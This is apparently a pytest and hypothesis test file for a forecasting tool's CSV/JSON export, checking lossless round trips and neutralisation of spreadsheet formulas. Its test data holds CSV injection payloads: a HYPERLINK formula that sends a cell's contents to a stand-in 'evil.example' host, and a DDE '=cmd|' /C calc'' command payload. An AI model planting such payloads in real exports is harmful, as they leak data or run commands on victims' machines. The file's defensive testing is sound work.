"""Lossless export (issue 15 item 3) and CSV formula neutralisation (issue 16 item 2).

Export -> import into an empty book writes byte-identical files, for CSV and JSON, through
the library and through the CLI with `-` for standard input and output.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from typer.testing import CliRunner

from bookfiles import snapshot
from deep import sized
from forecastbook.book import store
from forecastbook.book.csvio import (
    export_text,
    import_csv,
    neutralise_cell,
    restore_cell,
)
from forecastbook.cli import app
from forecastbook.format.models import Forecast

MOMENT = datetime(2025, 7, 1, 12, 0, tzinfo=UTC)

# Text a spreadsheet or a CSV reader could misread: formulas (OWASP's list), quotes,
# separators, line breaks, list and probability syntax, and plain words.
AWKWARD = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+33 1 23", "-5",
           "@SUM(A1)", "'=quoted", "''+twice", "'tis", "a;b", "[x]", "{y}", "k=v", 'say "hi"',
           "line\nbreak", "cr\r\nlf", "＝1", "tab\tin", "é 日本", "plain", "-", "'"]  # fmt: skip
text = st.one_of(
    st.sampled_from(AWKWARD),
    st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=12),
).filter(lambda s: bool(s.strip()))
names = st.one_of(st.sampled_from(["ann", "=bob", "-cy", "@dee"]), text)
zones = st.sampled_from(
    [UTC, timezone(timedelta(hours=5, minutes=30)), timezone(-timedelta(hours=8))]
)
moments = st.builds(
    lambda d, s, us, tz: (
        (datetime(2020, 1, 1, tzinfo=UTC) + timedelta(days=d, seconds=s))
        .replace(microsecond=us)
        .astimezone(tz)
    ),
    st.integers(0, 1500),
    st.integers(0, 86399),
    st.sampled_from([0, 0, 123456]),
    zones,
)
probabilities = st.one_of(st.floats(0, 1, allow_nan=False), st.sampled_from([0.1 + 0.2, 1e-7]))


@st.composite
def forecasts(draw: st.DrawFn, n: int) -> Forecast:
    """A valid forecast using every field of the file format."""
    options = draw(st.one_of(st.none(), st.lists(text, min_size=2, max_size=3)))
    if options is not None:
        options = [o.strip() for o in options]
        assume(len(set(options)) == len(options) and "annulled" not in options)
    created = date(2020, 1, 1)
    preds: list[dict[str, Any]] = []
    for _ in range(draw(st.integers(0, 3))):
        pred: dict[str, Any] = {"at": draw(moments), "by": draw(names)}
        if options is None:
            pred["p"] = draw(probabilities)
        else:
            weights = draw(
                st.lists(st.integers(1, 9), min_size=len(options), max_size=len(options))
            )
            values = [w / sum(weights) for w in weights]
            values[-1] = 1.0 - sum(values[:-1])
            assume(0.0 <= values[-1] <= 1.0)
            pred["probabilities"] = dict(zip(options, values, strict=True))
        if draw(st.booleans()):
            pred["note"] = draw(text)
        preds.append(pred)
    outcomes = [*(options or ["yes", "no"]), "annulled"]
    data: dict[str, Any] = {
        "id": f"q{n}",
        "question": draw(text),
        "kind": "binary" if options is None else "multiple_choice",
        "options": options,
        "created": created,
        "predictions": preds,
        "tags": draw(st.lists(text, max_size=3)),
        "draft": draw(st.booleans()),
    }
    for key in ("criteria", "horizon", "group"):
        if draw(st.booleans()):
            data[key] = draw(text)
    if draw(st.booleans()):
        data["resolve_by"] = created + timedelta(days=draw(st.integers(0, 3000)))
    if draw(st.booleans()):
        data["source"] = {"ref": draw(text)}
        if draw(st.booleans()):
            data["source"].update(published=date(2019, 12, 31), quote=draw(text), line=7)

    def resolution() -> dict[str, Any]:
        out: dict[str, Any] = {"outcome": draw(st.sampled_from(outcomes)), "at": draw(moments)}
        for key in ("by", "evidence", "note"):
            if draw(st.booleans()):
                out[key] = draw(text)
        return out

    history = []
    for _ in range(draw(st.integers(0, 2))):
        past = resolution() | {"replaced_at": draw(moments)}
        past["action"] = draw(st.sampled_from(["corrected", "reopened"]))
        if draw(st.booleans()):
            past["reason"] = draw(text)
        history.append(past)
    data["resolution_history"] = history
    if not data["draft"] and draw(st.booleans()):
        data["resolution"] = resolution()
    try:
        return Forecast.model_validate(data)
    except ValidationError:
        assume(False)
        raise  # pragma: no cover


@st.composite
def books(draw: st.DrawFn) -> list[Forecast]:
    book = [draw(forecasts(n)) for n in range(draw(st.integers(1, 4)))]
    if len(book) > 1 and draw(st.booleans()):
        target = book[0]
        outcome = draw(st.sampled_from(target.outcomes()))
        data = book[1].model_dump() | {"condition": {"id": target.id, "outcome": outcome}}
        book[1] = Forecast.model_validate(data)
    return book


def _files(root: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(root.iterdir())}


@settings(
    max_examples=sized(40, 400),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(book=books(), fmt=st.sampled_from(["csv", "json"]))
def test_export_import_writes_byte_identical_files(
    tmp_path_factory: pytest.TempPathFactory, book: list[Forecast], fmt: str
) -> None:
    source = tmp_path_factory.mktemp("src")
    target = tmp_path_factory.mktemp("dst")
    for forecast in book:
        store.write_new(source, forecast)
    text = export_text(store.load_book(source).forecasts, fmt=fmt)
    import_csv(target, Path(f"book.{fmt}"), text=text.encode("utf-8"), moment=MOMENT)
    assert _files(target) == _files(source)


def test_cli_round_trip_through_stdin_and_stdout(fb, book_dir: Path, tmp_path: Path) -> None:
    assert fb("add", "=HYPERLINK(\"http://evil.example\",\"x\")", "--p", "0.3",
              "--created", "2025-01-01", "--at", "2025-01-02T10:00:00+02:00",
              "--source", "article.txt", "--published", "2024-12-31", "--quote", "-says",
              "--id", "evil", "--by", "@alice", "--note", "+why").exit_code == 0  # fmt: skip
    assert fb("resolve", "evil", "yes", "--at", "2025-02-01", "--evidence", "=1").exit_code == 0
    assert fb("resolve", "evil", "no", "--correct", "--at", "2025-02-02",
              "--note", "wrong call").exit_code == 0  # fmt: skip
    assert fb("resolve", "evil", "--reopen", "--note", "disputed").exit_code == 0
    assert fb("resolve", "evil", "yes", "--at", "2025-02-03", "--note", "final").exit_code == 0
    for fmt in ("csv", "json"):
        exported = fb("export", "--format", fmt, "-o", "-")
        assert exported.exit_code == 0, exported.output
        target = tmp_path / f"again-{fmt}"
        target.mkdir()
        result = CliRunner().invoke(
            app, ["--book", str(target), "import", "-"], input=exported.stdout_bytes
        )
        assert result.exit_code == 0, result.output
        assert _files(target) == _files(book_dir)


def test_export_keeps_history_notes_and_source(fb) -> None:
    assert fb("add", "Will X?", "--p", "0.3", "--created", "2025-01-01", "--at", "2025-01-01",
              "--source", "a.txt", "--published", "2024-12-31", "--quote", "X may",
              "--id", "x").exit_code == 0  # fmt: skip
    assert fb("resolve", "x", "yes", "--at", "2025-02-01", "--note", "first").exit_code == 0
    assert fb("resolve", "x", "--reopen", "--note", "disputed").exit_code == 0
    row = json.loads(fb("export", "--format", "json").stdout)[0]
    assert (row["published"], row["quote"]) == ("2024-12-31", "X may")
    assert [h["action"] for h in row["resolution_history"]] == ["reopened"]
    assert row["resolution_history"][0]["note"] == "first"


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "＝1", '=HYPERLINK("http://e.x","c")']
)
def test_no_exported_cell_starts_a_formula(value: str) -> None:
    cell = neutralise_cell(value)
    assert cell.startswith("'")
    assert restore_cell(cell) == value


@given(st.text())
def test_neutralise_is_undone_exactly(value: str) -> None:
    cell = neutralise_cell(value)
    assert restore_cell(cell) == value
    assert cell[:1] not in set("=+-@\t\r\n＝＋－＠")


def test_exported_csv_has_no_live_formula(fb) -> None:
    assert fb("add", "=cmd|' /C calc'!A0", "--p", "0.5", "--by", "+bob", "--id", "f",
              "--created", "2025-01-01", "--at", "2025-01-01").exit_code == 0  # fmt: skip
    assert fb("resolve", "f", "no", "--evidence", "@SUM(1)", "--at", "2025-01-02").exit_code == 0
    rows = list(csv.reader(io.StringIO(fb("export").stdout)))
    cells = [cell for row in rows for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'+bob" in cells and "'@SUM(1)" in cells
    assert not any(cell[:1] in "=+-@\t\r" and cell for cell in cells)


def test_import_of_a_hand_made_csv_keeps_a_leading_apostrophe(fb, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text("id,question,probability\ntis,'Tis the season?,0.5\nf,'=2?,0.5\n")
    assert fb("import", str(path)).exit_code == 0
    shown = json.loads(fb("list", "--json").stdout)
    assert {r["id"]: r["question"] for r in shown} == {"f": "=2?", "tis": "'Tis the season?"}


def test_import_json_errors_name_the_object(fb, book_dir: Path) -> None:
    text = json.dumps([{"question": "Q?", "probability": 0.5, "at": "soon"}])
    result = CliRunner().invoke(app, ["--book", str(book_dir), "import", "-"], input=text)
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: stdin: row 1, column at:")
    assert snapshot(book_dir) == {}
